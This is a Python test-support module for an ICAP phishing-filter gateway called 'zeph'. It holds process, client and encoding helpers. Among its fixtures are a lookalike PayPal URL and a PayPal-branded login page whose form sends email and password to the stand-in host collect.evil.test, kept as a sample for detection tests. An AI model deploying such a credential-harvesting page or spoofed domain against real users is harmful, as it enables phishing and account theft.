# SPDX-License-Identifier: Apache-2.0
"""What the tests of the doors for web proxies share: zeph's processes, pages, and ICAP as a client writes it."""
import gzip
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import zlib

PROGRAM = os.path.abspath(sys.argv[1])
SOURCES = os.path.abspath(sys.argv[2])
WAIT = 60  # seconds; what takes longer counts as never

SPOOF = "http://paypal.com.signin.evil.test%s/login"
INNOCENT = "http://bakery.test%s/cakes"
KIT = b"""<!DOCTYPE html><html><head><title>PayPal - Log In</title></head><body>
<img src="https://www.paypalobjects.com/images/logo.svg" alt="PayPal"><h1>Log in to your PayPal account</h1>
<p>Your account has been limited. Please confirm your identity.</p>
<form action="http://collect.evil.test/post.php" method="post">Email <input type="text" name="login_email">
Password <input type="password" name="login_password"><input type="submit" value="Log In"></form>
<a href="https://www.paypal.com/help">Help</a> <a href="https://www.paypal.com/privacy">Privacy</a>
<p>&copy; 2026 PayPal</p></body></html>
"""
HONEST = b"<!DOCTYPE html><html><head><title>Cakes</title></head><body><h1>Cakes</h1><p>Flour, eggs and butter.</p></body></html>"


def brotli(data):
    """A stream that holds data as it is: one block that isn't compressed, and an empty last one."""
    assert 0 < len(data) <= 1 << 16
    return ((len(data) - 1) << 4 | 1 << 20).to_bytes(3, "little") + data + b"\x03"


ENCODERS = {"": lambda data: data, "gzip": gzip.compress, "deflate": zlib.compress,
            "raw": lambda data: zlib.compress(data)[2:-4], "br": brotli}


class Icap:
    """`zeph icap` on a free port."""

    def __init__(self, *arguments, environment=None):
        self.process = subprocess.Popen([PROGRAM, "icap", "--listen", "127.0.0.1:0", *arguments],
                                        stderr=subprocess.PIPE, env=environment)
        said = b""
        while True:
            line = self.process.stderr.readline()
            said += line
            found = re.search(rb"icap on port (\d+)", line)
            if found:
                break
            assert line, said
        self.port = int(found.group(1))

    def end(self):
        """Its exit status, and what it said."""
        self.process.send_signal(signal.SIGTERM)
        said = self.process.communicate(timeout=WAIT)[1].decode()
        return self.process.returncode, said


class Client:
    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port), WAIT)
        self.file = self.socket.makefile("rb")

    def send(self, data):
        self.socket.sendall(data)

    def head(self):
        lines = []
        while True:
            line = self.file.readline()
            if not line:
                return None
            if line == b"\r\n":
                return lines
            lines.append(line.decode("latin-1").rstrip())

    def answer(self):
        """Status, ICAP head, encapsulated heads, body; None when the connection has ended."""
        head = self.head()
        if head is None:
            return None
        status = int(head[0].split()[1])
        fields = dict(line.split(": ", 1) for line in head[1:])
        if status == 100:
            return status, fields, b"", b""
        *_, (kind, size) = [word.strip().split("=") for word in fields["Encapsulated"].split(",")]
        heads = self.file.read(int(size))
        body = b""
        while kind != "null-body":
            length = int(self.file.readline(), 16)
            body += self.file.read(length)
            assert self.file.readline() == b"\r\n"
            if length == 0:
                break
        return status, fields, heads, body


def chunked(data, size=1 << 20, end=b"0\r\n\r\n"):
    pieces = [data[i:i + size] for i in range(0, len(data), size)]
    return b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces) + end


def request_head(url, method="GET"):
    return ("%s %s HTTP/1.1\r\nHost: host.test\r\n\r\n" % (method, url)).encode()


def response_head(media_type="text/html", encoding="", more=""):
    head = "HTTP/1.1 200 OK\r\nX-Strange :  kept as it is\r\n" + more
    if media_type:
        head += "Content-Type: %s\r\n" % media_type
    if encoding:
        head += "Content-Encoding: %s\r\n" % {"raw": "deflate"}.get(encoding, encoding)
    return head.encode() + b"\r\n"


def icap(method, heads, body=None, fields="", service=None):
    """heads: of the request, and of the response. body: chunks already."""
    names, offset, words = ["req-hdr", "res-hdr"], 0, []
    for name, head in zip(names, heads):
        if head:
            words.append("%s=%d" % (name, offset))
            offset += len(head)
    kind = "null" if body is None else method[:3].lower()
    words.append("%s-body=%d" % (kind, offset))
    start = "%s icap://127.0.0.1/%s ICAP/1.0\r\nHost: 127.0.0.1\r\n%sEncapsulated: %s\r\n\r\n" % (
        method, service or method.lower(), fields, ", ".join(words))
    return start.encode() + b"".join(heads) + (body or b"")


def scratch():
    return tempfile.TemporaryDirectory(prefix="zeph-gateway-")
